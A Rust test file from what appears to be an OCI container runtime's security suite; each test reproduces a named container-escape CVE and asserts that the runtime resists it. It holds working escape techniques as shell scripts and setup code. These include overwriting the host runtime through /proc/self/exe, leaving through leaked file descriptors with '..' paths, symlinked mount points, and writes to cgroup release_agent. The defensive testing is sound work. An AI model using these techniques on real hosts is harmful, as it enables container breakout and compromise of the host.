//! What must not get out of an OCI container, or into it: each test tries an attack that some runtime
//! has fallen to, named by its CVE, with a root file system that the attacker wrote.

use gamut_tests::Bundle;
use gamut_tests::bundle::{ID, Receiver, fails};
use gamut_tests::census::mounts;
use serde_json::json;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::{Command, Stdio};

/// Docker's default set: what an attacker usually has.
const DOCKERS: [&str; 14] = [
    "CAP_CHOWN",
    "CAP_DAC_OVERRIDE",
    "CAP_FSETID",
    "CAP_FOWNER",
    "CAP_MKNOD",
    "CAP_NET_RAW",
    "CAP_SETGID",
    "CAP_SETUID",
    "CAP_SETFCAP",
    "CAP_SETPCAP",
    "CAP_NET_BIND_SERVICE",
    "CAP_SYS_CHROOT",
    "CAP_KILL",
    "CAP_AUDIT_WRITE",
];

/// Finds a process that runs another program than the root's own, keeps that program open, lets it go
/// on (it waits for a reader of /fifo), and when it is gone tries to write to it.
const OVERWRITE: &str = r#"
while :; do
  for p in /proc/[0-9]*; do
    case $(readlink $p/exe 2>/dev/null) in
    '' | */busybox) ;;
    *) (: <$p/exe) 2>/dev/null && exec 9<$p/exe && break 2 ;;
    esac
  done
done
cat /fifo >/dev/null
while [ -e $p ]; do usleep 1000; done
if (echo pwned >/proc/self/fd/9) 2>/tmp/why; then echo written >/tmp/result; else echo refused >/tmp/result; fi
while :; do sleep 3600; done
"#;

/// CVE-2019-5736: a program of the container leads to /proc/self/exe, so that the runtime executes its
/// own binary inside; whoever holds that open then writes to it when it no longer runs.
#[test]
fn the_hosts_program_cannot_be_overwritten() {
    let Some(mut bundle) = Bundle::new() else {
        return;
    };
    let copy = bundle.use_copy().to_owned();
    let before = fs::read(&copy).unwrap();
    symlink("/proc/self/exe", bundle.rootfs().join("evil")).unwrap();
    let script = "#!/proc/self/exe\n";
    fs::write(bundle.rootfs().join("script"), script).unwrap();
    gamut_tests::host::program(
        "chmod",
        &["755", bundle.rootfs().join("script").to_str().unwrap()],
    );
    gamut_tests::host::program("mkfifo", &[bundle.rootfs().join("fifo").to_str().unwrap()]);
    bundle.capabilities(&DOCKERS);
    bundle.script(OVERWRITE);
    bundle.make("run", &["--detach"], ID).ok();
    // Its log is the fifo: it stays until the attacker has it.
    let entered = bundle.call(&["exec", ID, "/evil", "oci", "--log", "/fifo", "features"]);
    if entered.code == 0 {
        let result = bundle.rootfs().join("tmp/result");
        let said = || fs::read_to_string(&result).is_ok_and(|text| text.ends_with('\n'));
        gamut_tests::patience::until("the attack has ended", said);
        assert_eq!(fs::read_to_string(result).unwrap(), "refused\n");
    }
    assert!(
        fs::read(&copy).unwrap() == before,
        "the host's program was overwritten"
    );
    bundle.delete(ID);
    // The first process is a way in, too; so is a script. None may fail because of the defence.
    for program in ["/evil", "/script"] {
        bundle.put("/process/args", json!([program, "oci", "--version"]));
        bundle.make("run", &[], ID);
        assert!(fs::read(&copy).unwrap() == before, "{program}");
    }
}

/// CVE-2016-9962: a process that joins is in the container's pid namespace before it is in the others:
/// its descriptors, root and program are the host's until then.
#[test]
fn a_process_that_joins_shows_nothing_of_the_host() {
    let Some(bundle) = Bundle::new() else { return };
    bundle.capabilities(&DOCKERS);
    bundle.script(
        "while [ ! -e /stop ]; do for p in /proc/[0-9]*; do for f in exe cwd root fd/3 fd/4 fd/5 fd/6 fd/7; do l=$(readlink $p/$f) && case $l in \
         /|/bin/busybox|'') ;; *) echo $p/$f $l >>/seen ;; esac; done; done 2>/dev/null; done",
    );
    bundle.make("run", &["--detach"], ID).ok();
    for _ in 0..20 {
        bundle.call(&["exec", ID, "true"]).ok();
    }
    fs::write(bundle.rootfs().join("stop"), "").unwrap();
    bundle.until(ID, "stopped");
    let seen = fs::read_to_string(bundle.rootfs().join("seen")).unwrap_or_default();
    // The shell that looks reads its own script's descriptors, and the directories it lists.
    let foreign: Vec<&str> = seen
        .lines()
        .filter(|line| !line.ends_with(" /proc") && !line.contains(" pipe:["))
        .collect();
    assert!(foreign.is_empty(), "{}", foreign.join("\n"));
}

/// CVE-2024-21626: a descriptor of the host's that is open at the exec, or a working directory that is
/// one of those open before it, leads out by `..`.
#[test]
fn no_descriptor_leads_out() {
    let Some(bundle) = Bundle::new() else { return };
    let leaking = |words: &[&str]| {
        let command = bundle.command(words);
        let mut shell = Command::new("sh");
        shell.args(["-c", "exec \"$@\" 7</ 8</etc 9<.", "sh"]);
        shell
            .arg(command.get_program())
            .args(command.get_args())
            .current_dir(bundle.dir());
        bundle.spawn(shell, Stdio::null()).finish()
    };
    let path = bundle.path().to_string_lossy().into_owned();
    // 3 is the directory that is being read.
    let expected = "0\n1\n2\n3\n";
    bundle.put("/process/args", json!(["ls", "/proc/self/fd"]));
    assert_eq!(leaking(&["run", "--bundle", &path, ID]).ok().out, expected);
    bundle.idle();
    assert_eq!(
        leaking(&["exec", ID, "ls", "/proc/self/fd"]).ok().out,
        expected
    );
    fs::write(bundle.dir().join("secret"), "secret").unwrap();
    let secret = bundle.dir().join("secret").display().to_string();
    let reach = format!(
        "for up in .. ../.. ../../.. ../../../.. ../../../../.. .; do cat $up{secret} 2>/dev/null; done; true"
    );
    symlink("/proc/self/fd/7", bundle.rootfs().join("link")).unwrap();
    for number in 3..24 {
        let cwd = format!("/proc/self/fd/{number}");
        let run = leaking(&["exec", "--cwd", &cwd, ID, "sh", "-c", &reach]);
        assert!(!run.out.contains("secret"), "{}", run.told());
    }
    bundle.delete(ID);
    for cwd in (3..24)
        .map(|n| format!("/proc/self/fd/{n}"))
        .chain(["/link".into()])
    {
        bundle.put("/process/cwd", json!(cwd));
        bundle.script(&reach);
        let run = leaking(&["run", "--bundle", &path, ID]);
        assert!(!run.out.contains("secret"), "{cwd}\n{}", run.told());
    }
}

/// CVE-2021-30465 and many before: mount points of the root that are links to the host's directories.
#[test]
fn links_at_mount_points_stay_inside() {
    let Some(bundle) = Bundle::new() else { return };
    let outside = bundle.dir().join("outside");
    fs::create_dir_all(outside.join("dir")).unwrap();
    fs::write(outside.join("file"), "host").unwrap();
    let before = mounts();
    let up = format!("../../../../../../../..{}", outside.display());
    for name in ["a", "b", "dev", "etc/link"] {
        let _ = fs::remove_dir(bundle.rootfs().join(name));
    }
    symlink(&outside, bundle.rootfs().join("a")).unwrap();
    symlink(&up, bundle.rootfs().join("b")).unwrap();
    symlink(outside.join("dir"), bundle.rootfs().join("dev")).unwrap();
    symlink(outside.join("file"), bundle.rootfs().join("word")).unwrap();
    bundle.mount("/a", "tmpfs", "tmpfs", &[]);
    bundle.mount("/b/new/deep", "tmpfs", "tmpfs", &[]);
    bundle.mount("/b/file", "bind", "/proc/self/exe", &["bind"]);
    bundle.put("/linux/maskedPaths", json!(["/word", "/a/dir", "/b/dir"]));
    bundle.put("/linux/readonlyPaths", json!(["/a", "/b"]));
    let run = bundle.run("echo x >/a/x; echo x >/b/new/deep/x; ls /dev/null");
    assert_eq!(
        fs::read_to_string(outside.join("file")).unwrap(),
        "host",
        "{}",
        run.told()
    );
    let names = |dir: &Path| {
        fs::read_dir(dir)
            .unwrap()
            .flatten()
            .map(|e| e.file_name())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        names(&outside).len(),
        2,
        "something was made outside\n{}",
        run.told()
    );
    assert!(names(&outside.join("dir")).is_empty(), "{}", run.told());
    assert_eq!(mounts(), before, "a mount came out");
    fs::write(outside.join("file"), "still writable").unwrap();
}

/// CVE-2019-19921, CVE-2023-27561, CVE-2025-52881: /proc or /sys of the root is a link, so that masks,
/// sysctls and labels meet something else than they are for. Either it is refused, or all holds.
#[test]
fn proc_and_sys_are_no_links() {
    let Some(bundle) = Bundle::new() else { return };
    for name in ["proc", "sys"] {
        let dir = bundle.rootfs().join(name);
        fs::remove_dir(&dir).unwrap();
        fs::create_dir_all(bundle.rootfs().join("tmp/elsewhere/sys/kernel")).unwrap();
        symlink("tmp/elsewhere", &dir).unwrap();
        bundle.script("true");
        fails(bundle.make("run", &[], ID), &[name]);
        bundle.assert_nothing_left();
        fs::remove_file(&dir).unwrap();
        fs::create_dir(&dir).unwrap();
    }
}

/// A mount onto a part of /proc, named so or by a link, fakes what later steps and other programs read
/// and write there (CVE-2019-16884, CVE-2025-52881).
#[test]
fn nothing_is_mounted_into_proc() {
    let Some(bundle) = Bundle::new() else { return };
    let fake = bundle.dir().join("fake");
    fs::create_dir(&fake).unwrap();
    let plain = fake.join("plain").to_string_lossy().into_owned();
    fs::write(&plain, "").unwrap();
    let fake = fake.to_string_lossy().into_owned();
    symlink("/proc/self", bundle.rootfs().join("innocent")).unwrap();
    symlink("/proc/sysrq-trigger", bundle.rootfs().join("file")).unwrap();
    let cases = [
        ("/proc/self/attr", "bind", fake.as_str()),
        ("/proc/sys", "tmpfs", "tmpfs"),
        ("/proc/../proc/self", "bind", &fake),
        ("/proc", "bind", &fake),
        ("/proc", "tmpfs", "tmpfs"),
        ("/innocent/attr", "bind", &fake),
        ("/file", "bind", &plain),
    ];
    for (destination, kind, source) in cases {
        let options: &[&str] = if kind == "bind" { &["bind"] } else { &[] };
        bundle.mount(destination, kind, source, options);
        bundle.script("true");
        fails(bundle.make("run", &[], ID), &[destination]);
        bundle.assert_nothing_left();
        bundle.set(|config| {
            config["mounts"].as_array_mut().unwrap().pop();
        });
    }
    // What lxcfs gives, as runc allows it; and all of the host's.
    let uptime = bundle.dir().join("uptime");
    fs::write(&uptime, "1.00 1.00\n").unwrap();
    bundle.mount("/proc/uptime", "bind", uptime.to_str().unwrap(), &["bind"]);
    assert_eq!(bundle.inside("cat /proc/uptime"), "1.00 1.00");
    bundle.set(|config| config["mounts"][0] = json!({"destination": "/proc", "type": "bind", "source": "/proc", "options": ["rbind"]}));
    bundle.set(|config| {
        config["mounts"].as_array_mut().unwrap().pop();
    });
    bundle.inside("true");
}

/// CVE-2025-31133, CVE-2025-52565: the root's own /dev/null and /dev/console are links into /proc, and no
/// mount covers /dev; a mask or a terminal is not to be made of them, nor put there.
#[test]
fn masks_are_made_of_the_hosts_null() {
    let Some(bundle) = Bundle::new() else { return };
    bundle.set(|config| {
        let mounts = config["mounts"].as_array_mut().unwrap();
        mounts.retain(|mount| !mount["destination"].as_str().unwrap().starts_with("/dev"));
    });
    fs::create_dir(bundle.rootfs().join("dev/pts")).unwrap();
    symlink(
        "/proc/sys/kernel/hostname",
        bundle.rootfs().join("dev/null"),
    )
    .unwrap();
    symlink("/proc/sysrq-trigger", bundle.rootfs().join("dev/console")).unwrap();
    fs::write(bundle.rootfs().join("word"), "secret").unwrap();
    bundle.put("/linux/maskedPaths", json!(["/proc/keys", "/word"]));
    let said = bundle.inside("cat /word; cat /proc/keys; stat -c '%F %t:%T' /word /proc/keys");
    assert_eq!(
        said,
        "character special file 1:3\ncharacter special file 1:3"
    );
    let socket = Receiver::new(&bundle.dir().join("console"));
    bundle.mount("/dev/pts", "devpts", "devpts", &[]);
    bundle.put("/process/terminal", json!(true));
    bundle.script("true");
    let made = bundle.make("create", &["--console-socket", &socket.path], ID);
    if made.code == 0 {
        let pid = bundle.pid(ID);
        let mounts = fs::read_to_string(format!("/proc/{pid}/mountinfo")).unwrap();
        assert!(
            !mounts
                .lines()
                .any(|line| line.contains(" /proc/sysrq-trigger ") && line.contains("devpts")),
            "{mounts}"
        );
    }
}

/// CVE-2022-0492: a release_agent is run by the kernel outside of every container.
#[test]
fn control_groups_are_only_looked_at() {
    let Some(bundle) = Bundle::new() else { return };
    bundle.capabilities(&DOCKERS);
    let said = bundle.inside(
        "for f in $(find /sys/fs/cgroup -name release_agent -o -name notify_on_release -o -name cgroup.procs -o -name memory.max -o -name devices.allow); do \
         (echo 1 >$f) 2>/dev/null && echo wrote $f; done; \
         for t in cgroup cgroup2; do mkdir -p /tmp/$t; mount -t $t -o rdma x /tmp/$t 2>/dev/null && echo mounted $t; done; \
         unshare -UrmC mount -t cgroup -o rdma x /tmp/cgroup 2>/dev/null && echo unshared; find /sys/fs/cgroup -name cgroup.procs | grep -c .",
    );
    assert!(said.parse::<u32>().is_ok_and(|count| count > 0), "{said}");
}

/// Read-only parts and masks of /proc are mounts: without CAP_SYS_ADMIN nobody takes them away.
#[test]
fn masks_cannot_be_taken_away() {
    let Some(bundle) = Bundle::new() else { return };
    bundle.capabilities(&DOCKERS);
    let said = bundle.inside(
        "for c in 'umount /proc/keys' 'umount -l /proc/sys' 'mount -o remount,rw /proc/sys' 'mount -o remount,bind,rw /proc/sys' \
         'mount -t proc proc /tmp' 'mount --move /proc/sys /tmp' 'mount -o remount,rw /sys'; do $c 2>/dev/null && echo $c; done; \
         (echo x >/proc/sys/kernel/hostname) 2>/dev/null && echo wrote; wc -c </proc/keys",
    );
    assert_eq!(said, "0");
}

/// Without a session keyring of its own a container would reach the caller's keys.
#[test]
fn the_session_keyring_is_its_own() {
    let Some(bundle) = Bundle::new() else { return };
    if !Path::new("/proc/keys").exists() {
        gamut_tests::skip::skipped("this kernel has no keyrings");
        return;
    }
    bundle.put("/linux/maskedPaths", json!([]));
    let name = bundle.name();
    bundle.script(&format!("grep -c ' _ses.{name}:' /proc/keys"));
    assert_eq!(bundle.make("run", &[], &name).ok().text(), "1");
    let kept = bundle.make("run", &["--no-new-keyring"], &format!("{name}-2"));
    // The first container's is gone with its last process, or not yet: this one has none of its name.
    bundle.script(&format!("grep -c ' _ses.{name}-3:' /proc/keys"));
    assert_eq!(
        bundle
            .make("run", &["--no-new-keyring"], &format!("{name}-3"))
            .code(1)
            .text(),
        "0",
        "{}",
        kept.told()
    );
}

/// Groups, variables and the umask of whoever calls are not the container's.
#[test]
fn nothing_of_the_caller_is_inherited() {
    let Some(bundle) = Bundle::new() else { return };
    let as_somebody = |words: &[&str]| {
        let command = bundle.command(words);
        let mut caller = Command::new("setpriv");
        caller
            .args(["--groups", "4242,777", "--"])
            .env("SECRET", "x");
        caller
            .arg(command.get_program())
            .args(command.get_args())
            .current_dir(bundle.dir());
        bundle.spawn(caller, Stdio::null()).finish()
    };
    let script = "grep Groups: /proc/self/status; env | grep -c SECRET; umask; cat /proc/self/oom_score_adj >/dev/null";
    let expected = "Groups:\t \n0\n0022\n";
    let path = bundle.path().to_string_lossy().into_owned();
    bundle.script(script);
    assert_eq!(
        as_somebody(&["run", "--bundle", &path, ID]).ok().out,
        expected
    );
    bundle.idle();
    assert_eq!(
        as_somebody(&["exec", ID, "sh", "-c", script]).ok().out,
        expected
    );
}
